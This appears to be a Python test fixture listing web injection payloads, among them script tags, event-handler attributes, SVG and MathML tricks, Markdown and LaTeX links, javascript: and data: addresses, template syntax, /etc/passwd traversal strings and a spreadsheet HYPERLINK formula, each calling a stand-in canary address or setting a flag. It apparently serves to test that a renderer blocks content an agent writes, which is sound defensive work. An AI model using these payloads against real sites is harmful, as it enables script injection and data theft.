"""What an agent could write to be run or fetched by whoever looks at it. `CANARY` stands for the address that must not be
asked; every payload that can run sets `window.pwned` (or opens a dialog)."""

from __future__ import annotations

CANARY = "CANARY"
RUN = "window.pwned=1"

PAYLOADS: dict[str, str] = {
    # HTML that runs
    "script": f"<script>{RUN}</script>",
    "script with source": f'<script src="{CANARY}/script.js"></script>',
    "closing what is open": f'"></div></script></style></title></textarea><script>{RUN}</script>',
    "script in mixed case": f"<ScRiPt >{RUN}</sCrIpT >",
    "image onerror": f'<img src="{CANARY}/x.png" onerror="{RUN}">',
    "image without quotes": f"<img src=x onerror={RUN}>",
    "attribute break": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute break, single": f"' onpointerenter='{RUN}' autofocus onfocus='{RUN}' x='",
    "body onload": f'<body onload="{RUN}">',
    "details ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "input autofocus": f'<input autofocus onfocus="{RUN}">',
    "video onerror": f'<video><source onerror="{RUN}"></video>',
    "audio source": f'<audio src="{CANARY}/a.mp3" autoplay></audio>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "iframe source": f'<iframe src="{CANARY}/frame"></iframe>',
    "iframe javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object data": f'<object data="{CANARY}/object"></object>',
    "embed": f'<embed src="{CANARY}/embed">',
    "form action": f'<form action="{CANARY}/form"><button autofocus>x</button></form>',
    "base": f'<base href="{CANARY}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">',
    "link stylesheet": f'<link rel="stylesheet" href="{CANARY}/style.css">',
    "style import": f"<style>@import '{CANARY}/import.css'; * {{ background: url({CANARY}/bg.png) }}</style>",
    "style attribute": f'<p style="background:url({CANARY}/p.png)">x</p>',
    "html comment": f"<!--><img src={CANARY}/comment.png onerror={RUN}>-->",
    "template element": f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img onerror={RUN}>'>",
    # SVG and MathML
    "svg onload": f'<svg onload="{RUN}"></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg image": f'<svg><image href="{CANARY}/svg.png"/></svg>',
    "svg use": f'<svg><use href="{CANARY}/use.svg#x"/></svg>',
    "svg animate": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "mathml": f'<math><mtext><img src={CANARY}/math.png onerror={RUN}></mtext></math>',
    # Markdown
    "markdown image": f"![x]({CANARY}/markdown.png)",
    "markdown reference image": f"![x][y]\n\n[y]: {CANARY}/reference.png",
    "markdown link": f"[click]({CANARY}/link)",
    "markdown javascript link": f"[click](javascript:{RUN})",
    "markdown autolink": f"<{CANARY}/autolink> {CANARY}/bare",
    "markdown html": f"**bold** <img src=x onerror={RUN}> `code` # heading",
    "markdown table": f"| a | b |\n|---|---|\n| ![x]({CANARY}/table.png) | <script>{RUN}</script> |",
    "markdown fence": f"```\n</code></pre><script>{RUN}</script>\n```\n~~~",
    # Streamlit's own directives, LaTeX
    "directive": f":red[x] :material/home: :streamlit: :color-badge[x] :rainbow[![x]({CANARY}/directive.png)]",
    "latex href": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\href{{{CANARY}/latex}}{{x}}$$",
    "latex image": f"$\\includegraphics{{{CANARY}/latex.png}}$ $\\htmlStyle{{background:url({CANARY}/l.png)}}{{x}}$",
    "latex url": f"$\\url{{javascript:{RUN}}}$ \\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    # addresses
    "javascript address": f"javascript:{RUN}//",
    "javascript address with tab": f'<a href="java\tscript:{RUN}" autofocus onfocus={RUN}>x</a>',
    "data address": f'<a href="data:text/html,<script>opener.{RUN}</script>">x</a>',
    "data image": f'<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>">',
    "protocol relative": "//" + CANARY.removeprefix("http://") + "/relative.png",
    # entities, templates, encodings
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "double entities": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "template syntax": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= 7*7 %> {% raw %} #{7*7}",
    "format syntax": "{0.__class__} %s %(x)s {row} %{goal}",
    "script data": f"]]></script><script>{RUN}</script>",
    "json break": f'\\"}}]}}</script><script>{RUN}</script>',
    "unicode line ends": f"a\u2028{RUN}\u2029<img src=x onerror={RUN}>",
    "direction override": f"\u202e<script>{RUN}</script>\u202c \u200b\ufeff",
    "control characters": f"a\x00b\x07\x1b[31mred\x1b]8;;{CANARY}/osc\x07x\x1b]8;;\x07<img src=x onerror={RUN}>",
    "path": f"../../../../etc/passwd %2e%2e/ ..\\ file:///etc/passwd {CANARY}/path",
    "formula": f'=HYPERLINK("{CANARY}/formula","x") @SUM(1+1) +1 -1',
    "plotly markup": f'<a href="{CANARY}/plotly">x</a><b>x</b><br><span style="color:red">x</span><sup>x</sup>',
    "vega expression": f"datum['x'] {{\"$ref\": \"{CANARY}/vega\"}} image://{CANARY}",
}  # fmt: skip


def payloads(canary: str) -> dict[str, str]:
    """Name -> payload with the canary's address in it."""
    return {name: text.replace(CANARY, canary) for name, text in PAYLOADS.items()}
